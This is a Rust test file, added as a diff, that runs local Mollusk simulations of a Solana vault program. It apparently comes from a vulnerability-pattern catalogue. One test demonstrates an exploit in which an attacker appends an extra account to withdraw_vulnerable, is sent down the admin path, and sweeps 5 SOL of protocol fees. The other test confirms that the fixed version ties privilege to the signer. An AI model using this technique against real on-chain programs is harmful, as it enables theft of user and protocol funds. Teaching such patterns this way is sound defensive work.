@@ -0,0 +1,257 @@
+/// # Pattern 213: Remaining Accounts Privilege — Mollusk Exploit Tests
+///
+/// The vault holds 50 SOL of user balances and 5 SOL of protocol fees. The
+/// attacker has a 1 SOL position; the admin has an empty one.
+///
+/// - Test 1: EXPLOIT — the attacker calls withdraw_vulnerable for 5 SOL
+///   with one extra account appended, takes the admin path, and sweeps the
+///   fees.
+/// - Test 2: SECURE — withdraw_secure ignores the extra account, even when
+///   it's the admin's key: the attacker's call debits their own 1 SOL and
+///   can't take 5. The admin, signing, sweeps the fees.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, ix_discriminator, owned_account, system_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("8sLjVW1X8PWvXYpGgzEwhqFcwNydyFHsykN1aE6AePk");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10 * SOL;
+/// User balances in the vault, the attacker's among them.
+const BALANCES: u64 = 50 * SOL;
+/// Protocol fees in the vault.
+const FEES: u64 = 5 * SOL;
+/// The attacker's balance.
+const STAKE: u64 = SOL;
+
+// Error codes
+const INSUFFICIENT_BALANCE: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account:
+///   [8 disc][32 admin][8 fees][1 bump]
+fn serialize_vault(admin: &Pubkey, fees: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(49);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&fees.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 vault][32 owner][8 balance][1 bump]
+fn serialize_position(vault: &Pubkey, owner: &Pubkey, balance: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(vault.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&balance.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    vault: Pubkey,
+    vault_bump: u8,
+    admin: Pubkey,
+    admin_position: Pubkey,
+    attacker: Pubkey,
+    attacker_position: Pubkey,
+    decoy: Pubkey,
+    attacker_bump: u8,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let admin = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let decoy = Pubkey::new_unique();
+        let (vault, vault_bump) = Pubkey::find_program_address(&[b"vault"], &PROGRAM_ID);
+        let (admin_position, admin_bump) = Pubkey::find_program_address(
+            &[b"position", vault.as_ref(), admin.as_ref()],
+            &PROGRAM_ID,
+        );
+        let (attacker_position, attacker_bump) = Pubkey::find_program_address(
+            &[b"position", vault.as_ref(), attacker.as_ref()],
+            &PROGRAM_ID,
+        );
+
+        let ledger = vec![
+            (
+                vault,
+                owned_account(
+                    &serialize_vault(&admin, FEES, vault_bump),
+                    RENT + BALANCES + FEES,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                admin_position,
+                owned_account(
+                    &serialize_position(&vault, &admin, 0, admin_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                attacker_position,
+                owned_account(
+                    &serialize_position(&vault, &attacker, STAKE, attacker_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (admin, system_account(WALLET)),
+            (attacker, system_account(WALLET)),
+            (decoy, system_account(0)),
+        ];
+
+        Self {
+            mollusk: Mollusk::new(&PROGRAM_ID, "remaining_accounts_privilege"),
+            vault,
+            vault_bump,
+            admin,
+            admin_position,
+            attacker,
+            attacker_position,
+            decoy,
+            attacker_bump,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// withdraw_vulnerable / withdraw_secure for `owner`, with `extra`
+    /// appended as remaining accounts.
+    fn withdraw(&self, name: &str, owner: Pubkey, amount: u64, extra: &[Pubkey]) -> Instruction {
+        let position = if owner == self.admin {
+            self.admin_position
+        } else {
+            self.attacker_position
+        };
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        let mut accounts = vec![
+            AccountMeta::new(self.vault, false),
+            AccountMeta::new(position, false),
+            AccountMeta::new(owner, true),
+        ];
+        accounts.extend(
+            extra
+                .iter()
+                .map(|key| AccountMeta::new_readonly(*key, false)),
+        );
+        Instruction::new_with_bytes(PROGRAM_ID, &data, accounts)
+    }
+
+    fn vault_data(&self, fees: u64) -> Vec<u8> {
+        serialize_vault(&self.admin, fees, self.vault_bump)
+    }
+
+    fn attacker_position_data(&self, balance: u64) -> Vec<u8> {
+        serialize_position(&self.vault, &self.attacker, balance, self.attacker_bump)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_extra_account_takes_admin_path_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   Attacker: withdraw_vulnerable(5 SOL), with an unrelated empty
+    //   account appended
+    //
+    // Expected: SUCCEEDS. One remaining account selects the admin path, so
+    //           the fee reserve drops to 0 while the attacker's 1 SOL
+    //           balance is untouched, and the attacker receives 5 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (vault, attacker, attacker_position, decoy) =
+        (s.vault, s.attacker, s.attacker_position, s.decoy);
+
+    let ix = s.withdraw("withdraw_vulnerable", attacker, FEES, &[decoy]);
+    let swept = s.vault_data(0);
+    let untouched = s.attacker_position_data(STAKE);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault)
+                .lamports(RENT + BALANCES)
+                .data(&swept)
+                .build(),
+            Check::account(&attacker_position).data(&untouched).build(),
+            Check::account(&attacker).lamports(WALLET + FEES).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_privilege_follows_signer() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   1. Attacker: withdraw_secure(5 SOL), with the admin's key appended
+    //   2. Attacker: withdraw_secure(1 SOL), with the same extra account
+    //   3. Admin: withdraw_secure(5 SOL), signed, with nothing appended
+    //
+    // Expected: step 1 FAILS with InsufficientBalance (6000): the attacker
+    //           isn't the admin, so the call debits their own 1 SOL. Step 2
+    //           SUCCEEDS and empties their balance, fees untouched. Step 3
+    //           SUCCEEDS and pays the admin the 5 SOL of fees.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (vault, admin, attacker, attacker_position) =
+        (s.vault, s.admin, s.attacker, s.attacker_position);
+
+    let ix = s.withdraw("withdraw_secure", attacker, FEES, &[admin]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(INSUFFICIENT_BALANCE))],
+    );
+
+    let ix = s.withdraw("withdraw_secure", attacker, STAKE, &[admin]);
+    let unswept = s.vault_data(FEES);
+    let emptied = s.attacker_position_data(0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault).data(&unswept).build(),
+            Check::account(&attacker_position).data(&emptied).build(),
+            Check::account(&attacker).lamports(WALLET + STAKE).build(),
+        ],
+    );
+
+    let ix = s.withdraw("withdraw_secure", admin, FEES, &[]);
+    let swept = s.vault_data(0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault)
+                .lamports(RENT + BALANCES - STAKE)
+                .data(&swept)
+                .build(),
+            Check::account(&admin).lamports(WALLET + FEES).build(),
+        ],
+    );
+}